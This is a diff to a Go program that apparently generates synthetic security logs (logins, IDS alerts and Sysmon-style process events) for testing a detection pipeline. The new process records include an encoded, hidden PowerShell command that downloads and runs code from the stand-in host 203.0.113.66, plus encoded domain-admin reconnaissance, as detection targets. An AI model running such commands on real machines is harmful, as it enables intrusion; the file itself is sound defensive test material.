@@ -1,11 +1,15 @@
-// Sample writes the small logs of the quickstart, pipelines/data/logins.jsonl and ids.jsonl: ten minutes of logins of some
-// sixty people, a few addresses that try passwords, and what the IDS saw of them. Run it in the repository's root:
+// Sample writes the small logs of the pipelines, in pipelines/data: logins.jsonl and ids.jsonl, ten minutes of logins of some
+// sixty people, a few addresses that try passwords, and what the IDS saw of them; and processes.jsonl, programs that started
+// on Windows hosts in these minutes. Run it in the repository's root:
 //
 //	go run ./bench/gen/sample
 package main
 
 import (
 	"cmp"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/json"
 	"fmt"
 	"log"
 	"math/rand/v2"
@@ -13,6 +17,7 @@ import (
 	"slices"
 	"strings"
 	"time"
+	"unicode/utf16"
 
 	"github.com/seed-98920119/tocsin/bench/gen"
 )
@@ -84,9 +89,55 @@ func alerts(r *rand.Rand) []line {
 	return lines
 }
 
+// encoded is a command as PowerShell's -EncodedCommand wants it: UTF-16, little endian, in base64.
+func encoded(command string) string {
+	var b []byte
+	for _, u := range utf16.Encode([]rune(command)) {
+		b = binary.LittleEndian.AppendUint16(b, u)
+	}
+	return base64.StdEncoding.EncodeToString(b)
+}
+
+// processes are named as Sysmon names them (event 1).
+func processes(r *rand.Rand) []line {
+	var lines []line
+	add := func(ms int64, host, user, image, command string) {
+		b, err := json.Marshal(struct {
+			UtcTime, Computer, User, Image, CommandLine, ParentImage string
+			ProcessId                                                int
+		}{stamp(ms), host, user, image, command, `C:\Windows\explorer.exe`, 1000 + 4*r.IntN(5000)})
+		if err != nil {
+			log.Fatal(err)
+		}
+		lines = append(lines, line{ms, string(b)})
+	}
+	const shell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	usual := [][2]string{
+		{`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\svchost.exe -k netsvcs -p`},
+		{`C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami`},
+		{`C:\Program Files\Browser\browser.exe`, `"C:\Program Files\Browser\browser.exe" --type=renderer`},
+		{shell, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1`},
+		{`C:\Tools\ffmpeg.exe`, `ffmpeg -encoders`},
+	}
+	for range 300 {
+		u := usual[r.IntN(len(usual))]
+		add(r.Int64N(600_000), fmt.Sprintf("WS-%03d", r.IntN(60)), `CORP\`+names[r.IntN(len(names))], u[0], u[1])
+	}
+	download := encoded(`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')`)
+	add(95_000, "WS-014", `CORP\chen`, shell, "powershell.exe -nop -w hidden -EncodedCommand "+download)
+	add(171_000, "WS-022", `CORP\hana`, shell, "powershell -e "+download)
+	add(333_000, "WS-022", `CORP\hana`, `C:\Program Files\PowerShell\7\pwsh.exe`, "pwsh -eNc "+encoded("whoami /all; net group 'domain admins' /domain"))
+	add(402_000, "WS-051", `CORP\ivan`, shell, `"`+shell+`" -EC `+encoded("Get-ChildItem -Recurse C:\\Users"))
+	for _, ms := range []int64{60_000, 360_000} { // the agent that deploys software does it all the time
+		add(ms, "DEPLOY-01", `NT AUTHORITY\SYSTEM`, shell, "powershell.exe -NonInteractive -EncodedCommand "+encoded("Install-Package -Name agent -Force"))
+	}
+	slices.SortStableFunc(lines, func(a, b line) int { return cmp.Compare(a.ms, b.ms) })
+	return lines
+}
+
 func main() {
 	r := rand.New(rand.NewPCG(7, 7))
-	for name, lines := range map[string][]line{"logins": logins(r), "ids": alerts(rand.New(rand.NewPCG(8, 8)))} {
+	for name, lines := range map[string][]line{"logins": logins(r), "ids": alerts(rand.New(rand.NewPCG(8, 8))), "processes": processes(rand.New(rand.NewPCG(9, 9)))} {
 		var b strings.Builder
 		for _, l := range lines {
 			b.WriteString(l.text + "\n")
